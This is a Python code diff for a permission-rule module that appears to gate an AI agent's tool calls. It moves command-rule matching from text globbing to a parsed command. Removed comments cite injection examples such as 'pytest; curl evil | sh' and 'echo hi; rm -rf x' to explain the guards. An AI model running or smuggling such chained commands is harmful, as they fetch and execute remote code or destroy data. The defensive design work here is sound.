@@ -9,11 +9,15 @@ from __future__ import annotations
 
 import os
 import re
+from collections.abc import Mapping
 from dataclasses import dataclass, field
 from pathlib import Path
-from typing import Any, Literal
+from typing import TYPE_CHECKING, Any, Literal
 
 from .domains import URL_KEYS, domain_matches, domain_rule_pattern
+
+if TYPE_CHECKING:
+    from .commands.model import CommandParse
 
 Decision = Literal["allow", "deny", "ask"]
 RuleAction = Literal["allow", "ask", "deny"]
@@ -87,6 +91,43 @@ class PermissionRequest:
     hook_reason: str | None = None
     #: the plugin that rewrote ``input`` (a person asked is told), or None
     rewritten_by: str | None = None
+    #: a command tool's call: its command parsed (:func:`smoke_core.plugin.parse_command`),
+    #: made by the gate once per call and shared by every rule (None before, and for other tools)
+    command_parse: CommandParse | None = None
+
+    @property
+    def commands(self) -> list[list[str]] | None:
+        """The simple commands of a command tool's call as argv lists, wrappers
+        looked through (``["git", "push", "--force"]`` for ``env git -C . push --force``);
+        None for other tools, and before the gate parsed the command."""
+        return self.command_parse.commands if self.command_parse is not None else None
+
+
+#: input keys of a command tool that reach the shell besides the command
+ENV_KEY = "env"
+BACKGROUND_KEY = "background"
+WORKDIR_KEYS = ("workdir", "cwd")
+
+
+def call_env(request: PermissionRequest) -> tuple[tuple[str, str], ...]:
+    """The call's ``env`` entries, sorted by name (what a rule must name)."""
+    env = request.input.get(ENV_KEY)
+    if not isinstance(env, Mapping):
+        return ()
+    return tuple(sorted((str(k), str(v)) for k, v in env.items()))
+
+
+def call_background(request: PermissionRequest) -> bool:
+    return request.input.get(BACKGROUND_KEY) is True
+
+
+def call_workdir(request: PermissionRequest) -> str | None:
+    for key in WORKDIR_KEYS:
+        value = request.input.get(key)
+        if isinstance(value, str) and value.strip():
+            return value
+    return None
+
 
 
 # ---------------------------------------------------------------- rules
@@ -114,7 +155,7 @@ class PermissionRule:
         return not _has_wildcard(self.tool) and (self.pattern is None or not _has_wildcard(self.pattern))
 
     def matches_tool(self, name: str) -> bool:
-        return _compile(self.tool, "plain", wildcard_stops=False).fullmatch(name) is not None
+        return _compile(self.tool, "plain").fullmatch(name) is not None
 
     def describe(self) -> str:
         return f"{self.action} rule {self.text!r} ({'managed: ' if self.managed else ''}{self.origin})"
@@ -152,8 +193,8 @@ def parse_rule(text: Any, action: RuleAction = "allow", *, origin: str = "create
                 f"permission rule {text!r}{where} has an empty pattern; write {tool!r} to match every call"
             )
         try:
-            for mode in ("path", "command", "plain"):
-                _compile(_expand_home(pattern), mode, wildcard_stops=False)
+            for mode in ("path", "plain"):
+                _compile(_expand_home(pattern), mode)
         except re.error as exc:
             raise RuleError(f"cannot parse the pattern of permission rule {text!r}{where}: {exc}") from None
     return PermissionRule(action, stripped, tool, pattern, origin, managed)
@@ -183,22 +224,19 @@ def _expand_home(pattern: str) -> str:
     return pattern
 
 
-# Shell operators a wildcard in an *allow* rule never spans, so that
-# run_command(pytest *) does not allow "pytest; curl evil | sh".
-_SHELL_STOP = r"(?:[^;&|`<>\n\r$]|\$(?![({]))"
-_compiled: dict[tuple[str, str, bool], re.Pattern[str]] = {}
+_compiled: dict[tuple[str, str], re.Pattern[str]] = {}
 
 
-def _compile(pattern: str, mode: ValueMode, *, wildcard_stops: bool) -> re.Pattern[str]:
+def _compile(pattern: str, mode: ValueMode) -> re.Pattern[str]:
     """Translate a glob to a regex. ``path``: ``*``/``?`` stop at ``/``,
-    ``**`` spans folders. ``command``/``plain``: ``*`` spans anything (except
-    shell operators for command *allow* rules, ``wildcard_stops``)."""
-    key = (pattern, mode, wildcard_stops)
+    ``**`` spans folders. ``plain``: ``*`` spans anything. (Command patterns
+    are compiled by :mod:`.commands.patterns`.)"""
+    key = (pattern, mode)
     cached = _compiled.get(key)
     if cached is not None:
         return cached
-    star = "[^/]*" if mode == "path" else (f"{_SHELL_STOP}*" if wildcard_stops else ".*")
-    one = "[^/]" if mode == "path" else (_SHELL_STOP if wildcard_stops else ".")
+    star = "[^/]*" if mode == "path" else ".*"
+    one = "[^/]" if mode == "path" else "."
     out: list[str] = []
     i, n = 0, len(pattern)
     while i < n:
@@ -311,16 +349,6 @@ def value_mode(tool_kind: str | None, permission_key: str | None) -> ValueMode:
     return "plain"
 
 
-_SEGMENT_SPLIT = re.compile(r"\|\||&&|[;&|\n\r]|\$\(|`|\(|\)")
-
-
-def _command_segments(command: str) -> list[str]:
-    """The command and each piece between shell operators (for deny/ask rules:
-    ``rm *`` also catches ``echo hi; rm -rf x``). Over-splitting is harmless there."""
-    parts = [p.strip() for p in _SEGMENT_SPLIT.split(command)]
-    return [command, *(p for p in parts if p and p != command)]
-
-
 class RequestView:
     """What rules match for one request, computed once."""
 
@@ -339,31 +367,27 @@ class RequestView:
             return True
         if self.value is None:
             return False
-        loosening = rule.action == "allow"
         if self.mode == "domain":
             return domain_matches(rule.pattern, self.value)
         if self.mode == "path":
-            return self._path_match(rule.pattern, loosening)
-        if self.mode == "command":
-            if loosening:
-                return _compile(rule.pattern, "command", wildcard_stops=True).fullmatch(self.value) is not None
-            regex = _compile(rule.pattern, "command", wildcard_stops=False)
-            return any(regex.fullmatch(seg) for seg in _command_segments(self.value))
-        return _compile(rule.pattern, "plain", wildcard_stops=False).fullmatch(self.value) is not None
+            return self._path_match(rule.pattern, rule.action == "allow")
+        if self.mode == "command":  # decided on the parse (command_rules), never on the text
+            raise ValueError("command rules are matched on the command's parse: use PermissionGate.decide")
+        return _compile(rule.pattern, "plain").fullmatch(self.value) is not None
 
     def _path_match(self, pattern: str, loosening: bool) -> bool:
         assert self.forms is not None
         pattern = _expand_home(pattern)
         if pattern.startswith("/"):
             candidates: tuple[str | None, ...] = self.forms.absolute
-            regex = _compile(pattern, "path", wildcard_stops=False)
+            regex = _compile(pattern, "path")
         else:
             candidates = self.forms.relative
             body = pattern[2:] if pattern.startswith("./") else pattern
             if body.endswith("/"):
                 body += "**"
             anchored = pattern.startswith("./") or "/" in body.rstrip("/")
-            regex = _compile(body if anchored else f"**/{body}", "path", wildcard_stops=False)
+            regex = _compile(body if anchored else f"**/{body}", "path")
         results = [c is not None and regex.fullmatch(c) is not None for c in candidates]
         # allow: every form (as written, symlinks resolved) must match; deny/ask: any form
         return all(results) if loosening else any(results)
@@ -372,9 +396,11 @@ class RequestView:
 def rule_for(request: PermissionRequest, *, workspace: str | os.PathLike[str] | None = None,
              permission_key: str | None = None, absolute: bool = False) -> str:
     """The rule that allows exactly this tool with exactly this argument
-    (glob characters escaped): ``run_command(pytest -q)``,
-    ``write_file(src/app.py)``, ``write_file(./setup.py)`` (a file at the
-    root), or the bare tool name for a tool without ``permission_key``.
+    (glob characters escaped): ``write_file(src/app.py)``,
+    ``write_file(./setup.py)`` (a file at the root), or the bare tool name
+    for a tool without ``permission_key``. For a command tool: the rules for
+    its simple commands, ``", "``-joined (:meth:`PermissionGate.rules_for`
+    gives the list; empty when none can cover the command).
     ``absolute=True`` anchors paths to the filesystem (for the user file,
     which applies to every folder)."""
     name = escape_glob(request.tool_name)
@@ -382,10 +408,18 @@ def rule_for(request: PermissionRequest, *, workspace: str | os.PathLike[str] | 
     if value is None:
         return name
     ws = Path(workspace).resolve() if workspace is not None else None
-    if value_mode(request.tool_kind, permission_key) == "domain":
+    mode = value_mode(request.tool_kind, permission_key)
+    if mode == "command":
+        from .commands.decide import exact_patterns
+        from .commands.walker import parse_command
+
+        parse = request.command_parse or parse_command(value, ws)
+        patterns = exact_patterns(parse, env=call_env(request), background=call_background(request))
+        return ", ".join(f"{name}({pattern})" for pattern in patterns)
+    if mode == "domain":
         host = domain_rule_pattern(value)
         return f"{name}({host})" if host else name
-    if value_mode(request.tool_kind, permission_key) == "path":
+    if mode == "path":
         forms = path_forms(value, ws)
         rel = forms.relative[0]
         if rel is not None and not absolute:
